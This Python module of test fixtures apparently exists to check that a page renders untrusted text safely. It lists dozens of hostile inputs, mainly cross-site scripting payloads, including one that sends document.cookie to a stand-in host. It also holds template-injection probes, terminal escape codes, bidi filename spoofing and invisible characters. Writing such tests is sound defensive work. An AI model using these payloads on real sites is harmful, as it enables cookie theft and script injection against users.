"""Texts that would be something else than text, were a page careless."""

from __future__ import annotations

JS = "fetch('https://elsewhere.example/'+document.cookie);alert(1)"
HOSTILE = {
    "script": f"<script>{JS}</script>",
    "script with a source": '<script src="https://elsewhere.example/x.js"></script>',
    "script in capitals": f"<SCRIPT>{JS}</SCRIPT >",
    "script that closes a script": f"</script><script>{JS}</script>",
    "script by nesting": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "picture that fails": f'<img src=x onerror="{JS}">',
    "picture from elsewhere": '<img src="https://elsewhere.example/pixel.gif">',
    "picture without quotes": "<img src=x onerror=alert(1)>",
    "picture that closes an attribute": f'"><img src=x onerror="{JS}">',
    "event of an attribute": f'" onmouseover="{JS}" x="',
    "event in single quotes": f"' autofocus onfocus='{JS}' x='",
    "event in a slash": "<svg/onload=alert(1)>",
    "drawing": f"<svg><script>{JS}</script></svg>",
    "drawing that moves": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "formula": '<math><mtext><table><mglyph><style><img src onerror="alert(1)">',
    "link of a script": '<a href="javascript:alert(1)">press me</a>',
    "address of a script": "javascript:alert(document.domain)",
    "address in pieces": "java\tscript:alert(1)",
    "address of data": "data:text/html,<script>alert(1)</script>",
    "link in markdown": "[press me](javascript:alert(1)) ![x](https://elsewhere.example/pixel.gif)",
    "frame": '<iframe src="https://elsewhere.example/"></iframe>',
    "frame with a text": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "form": '<form action="https://elsewhere.example/"><input autofocus><button>Go</button></form>',
    "base": '<base href="https://elsewhere.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
    "style": "<style>@import 'https://elsewhere.example/x.css'; body { display: none }</style>",
    "style that hides": '<div style="position:fixed;inset:0;background:url(https://elsewhere.example/)">x</div>',
    "comment that stays open": "<!-- all that follows is gone",
    "text area": f"</textarea></title></pre></details><script>{JS}</script>",
    "marked section": f"<![CDATA[ x ]]> ]]> <script>{JS}</script>",
    "template": "{{7*7}} {{ ''.__class__.__mro__ }} {% for x in (1,2) %}x{% endfor %} {# gone #}",
    "another template": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "colours of a terminal": "\x1b[31mred\x1b[0m \x1b]8;;https://elsewhere.example\x07a\x1b]8;;\x07\x1b[2J",
    "turned round": "invoice\u202efdp.exe \u2066hidden\u2069 \u200f",
    "what nobody sees": "pay\u200bment \u2060 \ufeff \u00ad \u3164 \U000e0041\U000e0042",
    "nothing at all": "before\x00after \x08\x08\x08 \x7f \x85",
    "half a character": "\ufffd \ufffe\uffff z\u0351\u0352\u0353\u0354\u0355\u0356\u0357",
    "lines": "one\r\ntwo\u2028three\u2029four\x0bfive\x0csix",
    "one long line": "A" * 1_000_000,
}
TEXTS = list(HOSTILE.values())
IDS = [text for text in TEXTS if len(text) <= 200 and text.isprintable()]
"""Those that may be the id of a run or of a person."""
SPOKEN = [text for text in TEXTS if len(text) <= 200]
